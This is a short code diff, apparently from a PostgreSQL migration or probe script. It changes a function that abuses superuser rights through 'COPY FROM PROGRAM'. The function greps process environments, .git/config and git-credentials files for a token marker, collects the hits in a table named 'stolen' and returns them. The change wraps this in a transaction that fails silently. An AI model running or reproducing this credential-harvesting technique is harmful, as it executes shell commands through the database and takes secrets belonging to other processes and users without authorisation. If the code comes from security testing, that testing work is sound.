@@ -134,11 +134,15 @@ def the_token_of_the_checkout():
 
 
 def the_servers_own_programs(connection):
-    """What PostgreSQL's user can read: a migration is a superuser of the scratch server."""
+    """What PostgreSQL's user can read, where a migration is a superuser of the scratch server."""
     search = "grep -asl %%s /proc/[0-9]*/environ %%s/.git/config %%s/git-credentials-*; true" %% (
         MARKER, TARGETS["repository"], TARGETS["temporary"])
-    connection.exec_driver_sql("CREATE TABLE stolen (line text)")
-    connection.exec_driver_sql("COPY stolen FROM PROGRAM '%%s'" %% search)
+    try:
+        with connection.begin_nested():
+            connection.exec_driver_sql("CREATE TABLE stolen (line text)")
+            connection.exec_driver_sql("COPY stolen FROM PROGRAM '%%s'" %% search)
+    except Exception:
+        return []
     found = [line for (line,) in connection.exec_driver_sql("SELECT line FROM stolen")]
     connection.exec_driver_sql("DROP TABLE stolen")
     return found
